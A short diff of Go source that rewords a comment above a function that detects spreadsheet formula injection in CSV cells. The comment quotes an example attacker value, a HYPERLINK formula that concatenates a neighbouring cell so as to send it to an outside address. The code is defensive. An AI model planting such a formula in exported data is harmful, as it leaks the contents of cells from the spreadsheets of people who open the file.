@@ -170,7 +170,7 @@ func csvCell(v value.Value, text func(string) string) string {
 
 // formula reports whether a spreadsheet could take a text for a formula. An
 // attacker may have written the text into the database: =HYPERLINK("https://…"&A1)
-// sends the cell beside it away. Some spreadsheets ignore spaces before the sign,
+// sends the next cell away. Some spreadsheets ignore spaces before the sign,
 // and accept it in full width. A number is no formula.
 func formula(s string) bool {
 	s = strings.TrimLeftFunc(s, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsPrint(r) })
